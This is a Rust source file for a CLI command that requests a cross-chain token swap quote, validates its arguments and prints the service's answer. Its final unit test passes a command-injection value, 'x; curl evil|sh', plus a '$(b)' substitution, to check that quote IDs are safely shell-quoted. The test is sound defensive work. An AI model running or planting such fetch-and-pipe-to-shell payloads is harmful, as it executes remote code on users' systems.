//! `hoptop quote`: asks for a route, and keeps the quote so that a transaction finds its estimate.
//!
//! What can only be refused is refused here, before a request is spent. It must never put what the service sent onto a
//! terminal as it came.

use std::{io, time::Duration};

use chrono::{DateTime, TimeDelta, Utc};
use clap::Args;
use color_eyre::eyre::Result;

use super::{
    context::Context,
    exit::Exit,
    json, log,
    one_shot_poll::{self, OneShotOutcome, OneShotPoll},
    quote_json::QuoteView,
};
use crate::{
    clock::Clock,
    config::Settings,
    domain::{
        observation::Failure,
        operation::Operation,
        quote::{
            Quote, QuoteAnswer, QuoteRequest,
            draft::{Draft, Part, Wrong},
        },
        span,
    },
    store::{Asked, StoredQuote},
};

/// How long a quote is waited for: others' requests, a rest, a time-out.
const PATIENCE: Duration = Duration::from_secs(40);

/// How to ask all the same.
const WITHOUT_LIMIT: &str = "without --with-transaction-data there is no such limit; other wallets are not held";

/// For the help.
pub const EXAMPLES: &str = "\
Examples:
  hoptop quote --from-chain 42161 --from-token 0xaf88d065e77c8cC2239327C5EDb3A432268e5831 --from-amount 25000000 \\
      --to-chain 8453 --to-token 0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913 --from-address 0x1f0a...
                                                   25 of a token with 6 decimals

The same question within 30 seconds gets the same quote. It ends with 0 if there is a quote, 1 if the service refuses it,
2 if it can only be refused, 5 if the service refuses the integrator ID, 6 if no answer came.";

/// Ask for a route.
#[derive(Args, Clone, Debug)]
pub struct QuoteArgs {
    /// The source chain's ID, as the service uses it
    #[arg(long, value_name = "CHAIN")]
    from_chain: String,
    /// The source token's address
    #[arg(long, value_name = "ADDRESS")]
    from_token: String,
    /// How much, an integer in the token's smallest unit
    #[arg(long, value_name = "AMOUNT")]
    from_amount: String,
    /// The destination chain's ID
    #[arg(long, value_name = "CHAIN")]
    to_chain: String,
    /// The destination token's address
    #[arg(long, value_name = "ADDRESS")]
    to_token: String,
    /// The user's address on the source chain; a refund is paid to it
    #[arg(long, value_name = "ADDRESS")]
    from_address: String,
    /// The recipient's address on the destination chain [default: the same as --from-address]
    #[arg(long, value_name = "ADDRESS")]
    to_address: Option<String>,
    /// Ask for call data too (quoteOnly: false); the service limits that for each wallet
    #[arg(long)]
    with_transaction_data: bool,
    /// Take chain IDs that don't look like any
    #[arg(long)]
    any_chain: bool,
    /// Print it as JSON, with the service's answer as it came
    #[arg(long)]
    json: bool,
}

/// A way in which a quote can come to an end.
pub(super) enum Outcome {
    /// With an answer, now or a moment ago.
    Answered { quote: Box<StoredQuote>, kept: bool },
    /// The wallet has to wait.
    Held { until: DateTime<Utc>, message: String },
    /// Nothing came, for this reason; with the code that it ends with.
    InVain(String, Exit),
}

/// Asks for the route and prints what came.
pub fn quote(args: &QuoteArgs, settings: &Settings, cx: &mut Context) -> Result<Exit> {
    let request = match request(args) {
        Ok(request) => request,
        Err(wrong) => {
            let line = |Wrong { part, reason }: Wrong| writeln!(cx.err, "{}: {reason}", option(part));
            wrong.into_iter().try_for_each(line)?;
            return Ok(Exit::Usage);
        }
    };
    if let Some(warning) = request.odd_address() {
        writeln!(cx.err, "warning: {warning}")?;
    }
    // Whatever could keep us from asking comes first: nobody is to ask on our behalf after we have failed.
    let polling = super::polling(settings)?;
    log::start(&settings.state_dir, Clock::system())?;
    let at = cx.now.wall;
    let until = at + TimeDelta::from_std(PATIENCE)?;
    let operation = Operation::AskQuote { profile: cx.profile.clone(), request: request.clone(), wanted_until: until };
    let outcome = match cx.store.apply(operation, at).wait()?.asked()? {
        Asked::Kept(quote) => Outcome::Answered { quote, kept: true },
        Asked::WalletHeld { until, message } => Outcome::Held { until, message },
        Asked::Pending { id, quote } => {
            let answered =
                move |reader: &crate::store::Reader| Ok(reader.quote(id)?.is_none_or(|quote| quote.answer.is_some()));
            let one_shot_poll = OneShotPoll { settings, store: &cx.store, patience: PATIENCE };
            let ended = one_shot_poll.run(polling, answered);
            cx.now = Clock::system().now();
            let operation = Operation::WithdrawQuote { quote: *quote, wanted_until: until };
            cx.store.apply(operation, cx.now.wall).wait()?;
            match ended? {
                OneShotOutcome::Stopped(exit) => return Ok(exit),
                OneShotOutcome::Obstructed(exit) => heard(id, exit, cx)?,
                OneShotOutcome::Done | OneShotOutcome::InVain => heard(id, Exit::Unreachable, cx)?,
            }
        }
    };
    if args.json {
        let view = QuoteView::new(&request, &outcome, cx.now.wall);
        writeln!(cx.out, "{}", json::ascii(&serde_json::to_string(&view)?))?;
    } else {
        print(&outcome, cx)?;
    }
    Ok(verdict(&outcome))
}

/// What came of the request by now; `exit` is the code if that is nothing.
fn heard(id: i64, exit: Exit, cx: &Context) -> Result<Outcome> {
    let reader = cx.store.reader()?;
    Ok(match reader.quote(id)? {
        Some(quote) if quote.answer.is_some() => Outcome::Answered { quote: Box::new(quote), kept: false },
        Some(quote) if quote.sent_at.is_some() => {
            Outcome::InVain("the request was sent and its answer was lost; ask again".into(), exit)
        }
        _ => Outcome::InVain(one_shot_poll::why_in_vain(&reader, &cx.profile, cx.now.wall)?, exit),
    })
}

/// The request, or everything that is wrong with it.
fn request(args: &QuoteArgs) -> Result<QuoteRequest, Vec<Wrong>> {
    let draft = Draft {
        from_chain: &args.from_chain,
        from_token: &args.from_token,
        from_amount: &args.from_amount,
        to_chain: &args.to_chain,
        to_token: &args.to_token,
        from_address: &args.from_address,
        to_address: args.to_address.as_deref(),
        quote_only: !args.with_transaction_data,
    };
    draft.request(args.any_chain)
}

/// The option that takes a value: `fromChain` is `--from-chain`.
fn option(part: Part) -> String {
    let letter = |letter: char| match letter.is_ascii_uppercase() {
        true => format!("-{}", letter.to_ascii_lowercase()),
        false => letter.to_string(),
    };
    format!("--{}", part.name().chars().map(letter).collect::<String>())
}

fn verdict(outcome: &Outcome) -> Exit {
    let answer = match outcome {
        Outcome::Answered { quote, .. } => quote.answer.as_ref(),
        Outcome::Held { .. } => return Exit::Error,
        Outcome::InVain(_, exit) => return *exit,
    };
    match answer {
        Some(QuoteAnswer::Route(_)) => Exit::Fine,
        Some(QuoteAnswer::Failed(Failure::Unauthorized(_))) => Exit::Unauthorized,
        Some(QuoteAnswer::Failed(Failure::Throttled { .. })) => Exit::Unreachable,
        Some(QuoteAnswer::Failed(failure)) if failure.is_outage() => Exit::Unreachable,
        _ => Exit::Error,
    }
}

fn print(outcome: &Outcome, cx: &mut Context) -> io::Result<()> {
    match outcome {
        Outcome::InVain(why, _) => writeln!(cx.err, "no quote: {why}"),
        Outcome::Held { until, message } => {
            let until = span::clock_time(*until, cx.now.wall, cx.zone);
            writeln!(cx.err, "no quote: {message}; this wallet has to wait until {until}, no request was spent")?;
            writeln!(cx.err, "{WITHOUT_LIMIT}")
        }
        Outcome::Answered { quote, kept } => match &quote.answer {
            Some(QuoteAnswer::Route(route)) => print_route(quote, route, *kept, cx),
            Some(answer) => print_refusal(answer, cx),
            None => Ok(()),
        },
    }
}

fn print_route(quote: &StoredQuote, route: &Quote, kept: bool, cx: &mut Context) -> io::Result<()> {
    let request = &quote.request;
    for (label, value) in route.facts(request, cx.now.wall) {
        writeln!(cx.out, "{label:<15}{value}")?;
    }
    if kept {
        let age = span::between(quote.answered_at.unwrap_or(quote.asked_at), cx.now.wall);
        writeln!(cx.out, "age            {}: the same was asked for then, so no request was spent", span::long(age))?;
    }
    route.warnings.iter().try_for_each(|warning| writeln!(cx.out, "warning        {warning}"))?;
    if let Some(id) = &route.quote_id {
        let (from, to) = (&request.from_chain, &request.to_chain);
        let id = shell_word(id);
        writeln!(cx.out, "\nonce it is sent:  hoptop add TX --from {from} --to {to} --quote-id={id}")?;
    }
    if !request.quote_only {
        writeln!(cx.out, "the call data is in the service's answer: ask with --json")?;
    }
    Ok(())
}

/// A word that a shell takes as it is, whatever the service has put into it.
fn shell_word(word: &str) -> String {
    let is_plain = word.chars().all(|letter| letter.is_ascii_alphanumeric() || matches!(letter, '.' | '_' | ':' | '-'));
    if is_plain { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
}

fn print_refusal(answer: &QuoteAnswer, cx: &mut Context) -> io::Result<()> {
    let wait = match answer {
        QuoteAnswer::WalletLimited { retry_after, .. } => {
            format!("; this wallet has to wait {}", span::long(*retry_after))
        }
        _ => String::new(),
    };
    writeln!(cx.err, "no quote: {}{wait}", answer.refusal().unwrap_or_default())?;
    writeln!(cx.err, "  {}", answer.resolution().unwrap_or_default())?;
    match answer {
        QuoteAnswer::WalletLimited { .. } => writeln!(cx.err, "{WITHOUT_LIMIT}"),
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_quote_id_is_one_word_for_a_shell() {
        let table = [("5f2a-1:b", "5f2a-1:b"), ("x; curl evil|sh", "'x; curl evil|sh'"), ("a'$(b)", r"'a'\''$(b)'")];
        for (id, word) in table {
            assert_eq!(shell_word(id), word);
        }
    }

    #[test]
    fn each_value_has_its_option() {
        let options = Part::ALL.map(option);
        assert_eq!((options[0].as_str(), options[2].as_str()), ("--from-chain", "--from-amount"));
    }
}
